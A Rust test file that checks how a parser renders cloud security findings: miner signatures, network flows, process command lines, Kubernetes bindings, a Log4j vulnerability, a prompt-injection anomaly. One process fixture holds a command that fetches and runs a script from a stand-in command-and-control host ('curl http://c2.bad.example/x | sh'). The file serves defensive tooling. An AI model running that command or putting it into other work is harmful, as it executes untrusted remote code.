//! Tests the records of a finding, one by one.

use super::*;

/// Returns the indicators and details of a finding with only these fields.
fn told(fields: Value) -> String {
    let alert = one_of(&finding(fields));
    format!("{}\n{}", parts(&alert), details(&alert))
        .trim()
        .to_owned()
}

#[test]
fn signature_in_memory_is_evidence() {
    let alert = one_of(&case("memory hash"));
    insta::assert_snapshot!(details(&alert), @"
    threat_name: XMRig
    signature: XMRig in memory: xmrig, pages matched: 1.0
    ");
    let yara = told(
        json!({"indicator": {"signatures": [{"yaraRuleSignature": {"yaraRule": "Linux_Gafgyt"}}]}}),
    );
    insta::assert_snapshot!(yara, @"signature: Linux_Gafgyt");
}

#[test]
fn connections_tell_ports_and_direction() {
    insta::assert_snapshot!(told(json!({"connections": [
        {"sourceIp": "203.0.113.9", "sourcePort": 40000, "destinationIp": "10.0.0.5", "destinationPort": 22, "protocol": "TCP"},
        {"destinationIp": "198.51.100.9", "destinationPort": 53, "protocol": "PROTOCOL_UNSPECIFIED"}]})), @"
    related ip 10.0.0.5
    remote ip 198.51.100.9
    actor ip 203.0.113.9
    local_port: 22 [203.0.113.9]
    remote_port: 40000 [203.0.113.9]
    remote_port: 53 [198.51.100.9]
    protocol: TCP [203.0.113.9]
    direction: inbound [203.0.113.9]
    ");
    let flow = properties(
        json!({"ipConnection": {"srcIp": "10.0.0.5", "srcPort": 40000, "destIp": "198.51.100.9",
            "destPort": 3333, "protocol": 6},
        "indicatorContext": [{"ipAddress": "198.51.100.9", "countryCode": "NL", "asn": "64500",
            "organizationName": "Example Hosting", "reverseDnsDomain": "pool.bad.example"}],
        "network": {"project": "shop-prod", "subnetworkName": "pay-subnet"}, "srcVpc": {"vpcName": "pay-vpc"},
        "sourceInstanceDetails": "/projects/shop-prod/zones/europe-west1-b/instances/pay-1",
        "threatIntelligenceSource": "list-1"}),
    );
    insta::assert_snapshot!(parts(&flow), @"
    related ip 10.0.0.5
    remote ip 198.51.100.9
    related domain pool.bad.example
    ");
    insta::assert_snapshot!(details(&flow), @"
    local_port: 40000 [198.51.100.9]
    remote_port: 3333 [198.51.100.9]
    protocol: TCP [198.51.100.9]
    direction: outbound [198.51.100.9]
    country: NL [198.51.100.9]
    asn: AS64500 [198.51.100.9]
    organisation: Example Hosting [198.51.100.9]
    vpc: pay-vpc
    subnet: pay-subnet
    threat_list: list-1
    ");
    let dns = properties(
        json!({"domains": ["c2.bad.example"], "dnsContexts": [{"sourceIp": "10.0.0.5",
        "queryName": "c2.bad.example.", "responseData": [{"responseValue": "198.51.100.9"}]}]}),
    );
    insta::assert_snapshot!(parts(&dns), @"
    related ip 10.0.0.5
    related ip 198.51.100.9
    remote domain c2.bad.example
    ");
    insta::assert_snapshot!(details(&dns), @"dns_query: c2.bad.example.");
}

#[test]
fn processes_tell_command_lines_and_parents() {
    insta::assert_snapshot!(told(json!({"processes": [
        {"name": "sh", "binary": {"path": "/bin/sh"}, "args": ["/bin/sh", "-c", "curl http://c2.bad.example/x | sh"],
            "pid": 7, "parentPid": 3, "envVariables": [{"name": "POOL", "val": "198.51.100.9:3333"}]},
        {"name": "nginx", "binary": {"path": "/usr/sbin/nginx"}, "args": ["-g", "daemon off;"], "pid": "3", "parentPid": "1"}],
        "files": [{"path": "/etc/cron.d/x", "operations": [{"type": "WRITE"}]}]})), @"
    related ip 198.51.100.9
    related url http://c2.bad.example/x
    related process nginx
    related process sh
    related file /bin/sh
    related file /etc/cron.d/x
    related file /usr/sbin/nginx
    command_line: /bin/sh -c 'curl http://c2.bad.example/x | sh' [sh]
    command_line: /usr/sbin/nginx -g 'daemon off;' [nginx]
    parent_process: /usr/sbin/nginx [sh]
    parent_process: pid 1 [nginx]
    parent_command_line: /usr/sbin/nginx -g 'daemon off;' [sh]
    file_written: /etc/cron.d/x
    ");
}

#[test]
fn secrets_in_arguments_are_redacted() {
    let text = told(
        json!({"processes": [{"name": "mysql", "args": ["mysql", "-u", "root", "-pS3cr3t-9081"]}]}),
    );
    assert!(!text.contains("S3cr3t"), "{text}");
    assert!(text.contains("command_line: mysql -u root"), "{text}");
}

#[test]
fn kubernetes_objects_are_told() {
    insta::assert_snapshot!(told(json!({"kubernetes": {
        "pods": [{"ns": "shop", "name": "pay-0", "containers": [{"name": "pay", "uri": "reg.example.com/pay:1"}]}],
        "nodes": [{"name": "//compute.googleapis.com/projects/p/zones/z/instances/gke-1"}],
        "roles": [{"kind": "ROLE", "ns": "shop", "name": "reader"}],
        "bindings": [{"ns": "", "name": "b", "role": {"kind": "CLUSTER_ROLE", "name": "cluster-admin"},
            "subjects": [{"kind": "USER", "name": "eve@example.net"}, {"kind": "GROUP", "name": "system:anonymous"}]}],
        "accessReviews": [{"verb": "get", "resource": "secrets", "ns": "kube-system"}],
        "objects": [{"kind": "Pod", "ns": "shop", "name": "miner", "containers": [{"name": "m", "uri": "reg.bad.example/m"}]}]}})), @"
    actor principal eve@example.net
    related principal system:anonymous
    related arn //compute.googleapis.com/projects/p/zones/z/instances/gke-1
    related instance gke-1
    target container m
    target container pay
    target container shop/miner
    target container shop/pay-0
    related image reg.bad.example/m
    related image reg.example.com/pay:1
    group: system:anonymous
    permission: ClusterRole cluster-admin [eve@example.net]
    permission: ClusterRole cluster-admin [system:anonymous]
    permission: Role shop/reader
    permission: get secrets in kube-system
    grantee: eve@example.net
    ");
}

#[test]
fn vulnerability_tells_package_fix_and_exploitation() {
    insta::assert_snapshot!(told(json!({"findingClass": "VULNERABILITY", "vulnerability": {
        "cve": {"id": "CVE-2021-44228", "exploitationActivity": "WIDE", "observedInTheWild": true, "zeroDay": false,
            "upstreamFixAvailable": true, "cvssv3": {"baseScore": 10, "attackVector": "ATTACK_VECTOR_NETWORK"}},
        "offendingPackage": {"packageName": "log4j-core", "packageVersion": "2.14.1"},
        "fixedPackage": {"packageName": "log4j-core", "packageVersion": "2.17.1"},
        "reachable": true, "cwes": [{"id": "CWE-502"}]}})), @"
    related cve CVE-2021-44228
    package: log4j-core 2.14.1
    fixed_version: 2.17.1 [log4j-core]
    exposure: attack vector: NETWORK
    exposure: exploitation activity: WIDE
    exposure: exploited in the wild
    exposure: reachable
    trait: CVSS 10
    trait: a fix is available
    trait: weakness CWE-502
    ");
}

#[test]
fn agents_and_models_are_told() {
    insta::assert_snapshot!(told(json!({
        "agent": {"id": "agent-7", "displayName": "Banking Agent"}, "agentSessions": [{"sessionId": "s-1"}],
        "agentAnomaly": {"confidenceScore": 0.93, "detectorReferences": [
            {"detectorId": "prompt_injection", "explanation": "The prompt asks for the system prompt."}]},
        "aiModel": {"name": "gemini-x", "publisher": "google", "deploymentPlatform": "VERTEX_AI"}})), @"
    signature: prompt_injection
    ai_model: Banking Agent
    ai_model: agent agent-7
    ai_model: gemini-x
    ai_model: platform VERTEX_AI
    ai_model: publisher google
    ai_model: session s-1
    trait: confidence of the anomaly 0.93
    trait: prompt_injection: The prompt asks for the system prompt.
    ");
}

#[test]
fn newer_records_are_told() {
    insta::assert_snapshot!(told(json!({
        "job": {"name": "projects/p/jobs/j1", "state": "FAILED", "errorCode": 7},
        "networks": [{"name": "pay-vpc"}], "disk": {"name": "//compute.googleapis.com/projects/p/zones/z/disks/d1"},
        "notebook": {"name": "nb-1", "service": "vertex-ai", "lastAuthor": "eve@example.net"},
        "kernelRootkit": {"name": "Diamorphine", "unexpectedSystemCallHandler": true},
        "application": {"baseUri": "https://shop.example.com", "fullUri": "https://shop.example.com/login"},
        "ipRules": {"direction": "INGRESS", "sourceIpRanges": ["0.0.0.0/0"], "exposedServices": ["SSH"],
            "allowed": {"ipRules": [{"protocol": "tcp", "portRanges": [{"min": "22", "max": "22"}]}]}},
        "loadBalancers": [{"name": "lb-1"}], "orgPolicies": [{"name": "organizations/1/policies/compute.vmExternalIpAccess"}],
        "logEntries": [{"cloudLoggingEntry": {"insertId": "i1", "logId": "cloudaudit", "resourceContainer": "projects/p"}}],
        "backupDisasterRecovery": {"host": "backup-1", "backupType": "Snapshot"}})), @"
    target url https://shop.example.com/login
    actor principal eve@example.net
    related arn //compute.googleapis.com/projects/p/zones/z/disks/d1
    application: https://shop.example.com
    application: vertex-ai
    error_code: 7
    direction: inbound
    vpc: pay-vpc
    threat_name: Diamorphine
    control: organizations/1/policies/compute.vmExternalIpAccess
    exposure: SSH
    exposure: allowed: tcp 22
    exposure: from 0.0.0.0/0
    trait: backup host backup-1
    trait: backup type Snapshot
    trait: disk //compute.googleapis.com/projects/p/zones/z/disks/d1
    trait: job projects/p/jobs/j1
    trait: job state FAILED
    trait: load balancer lb-1
    trait: log entry i1 of log cloudaudit in projects/p
    trait: notebook nb-1
    trait: unexpected system call handler
    ");
}

#[test]
fn related_findings_traffic_and_posture_are_told() {
    insta::assert_snapshot!(told(json!({
        "toxicCombination": {"attackExposureScore": 7.5, "relatedFindings": ["organizations/1/sources/2/findings/a"]},
        "chokepoint": {"relatedFindings": ["organizations/1/sources/2/findings/b"]},
        "groupMemberships": [{"groupType": "GROUP_TYPE_CHOKEPOINT", "groupId": "f1"}, {"groupId": "g2"}],
        "cloudArmor": {"securityPolicy": {"name": "edge", "preview": true}, "requests": {"ratio": 0.4, "shortTermAllowed": 1200},
            "attack": {"classification": "SYN-flood"}},
        "cloudDlpInspection": {"infoType": "PERSON_NAME", "infoTypeCount": "12"},
        "securityPosture": {"name": "posture-1", "changedPolicy": "policies/x",
            "policyDriftDetails": [{"field": "allowed", "expectedValue": "a", "detectedValue": "b"}]},
        "moduleName": "folders/1/securityHealthAnalyticsSettings/customModules/5"})), @"
    security_group: edge
    threat_name: SYN-flood
    event_count: 12
    event_count: 1200
    control: policies/x
    control: posture posture-1
    exposure: attack exposure score 7.5
    custom_rule: folders/1/securityHealthAnalyticsSettings/customModules/5
    related_finding: g2
    related_finding: organizations/1/sources/2/findings/a
    related_finding: organizations/1/sources/2/findings/b
    trait: allowed: expected a, detected b
    trait: ratio of requests 0.4
    trait: requests allowed, short term: 1200
    trait: security policy in preview: it blocks nothing
    trait: type of data PERSON_NAME
    ");
}

#[test]
fn flat_properties_of_other_detectors_are_told() {
    let alert = one_of(&finding(json!({"sourceProperties": {
        "Container_Name": "pay", "Pod_Namespace": "shop", "Pod_Name": "pay-0", "Container_Image_Uri": "reg.example.com/pay:1",
        "Process_Binary_Fullpath": "/tmp/x", "Process_Arguments": ["/tmp/x", "-o"], "VM_Instance_Name": "gke-1",
        "Reverse_Shell_Stdin_Redirection_Dst_Ip": "198.51.100.9", "Reverse_Shell_Stdin_Redirection_Dst_Port": 4444,
        "ExternallyAccessibleProtocolsAndPorts": [{"IPProtocol": "tcp", "ports": ["80"]}], "AllowedIpRange": "All",
        "Recommendation": "Close the port.", "Explanation": "The port is open.",
        "compliance_standards": {"cis": [{"version": "1.0", "ids": ["1.12"]}]},
        "contextUris": {"relatedFindingUri": {"displayName": "Related", "url": "https://console.cloud.google.com/x"}}}})));
    insta::assert_snapshot!(parts(&alert), @"
    remote ip 198.51.100.9
    related instance gke-1
    target container pay
    target container pay-0
    related image reg.example.com/pay:1
    related file /tmp/x
    ");
    insta::assert_snapshot!(details(&alert), @"
    local_port: 80
    remote_port: 4444
    command_line: /tmp/x -o
    control: cis 1.0 1.12
    exposure: addresses allowed: All
    exposure: open to the internet: tcp 80
    related_finding: Related
    ");
    assert_eq!(alert.remediation.as_deref(), Some("Close the port."));
    assert_eq!(alert.description, "The port is open.");
}
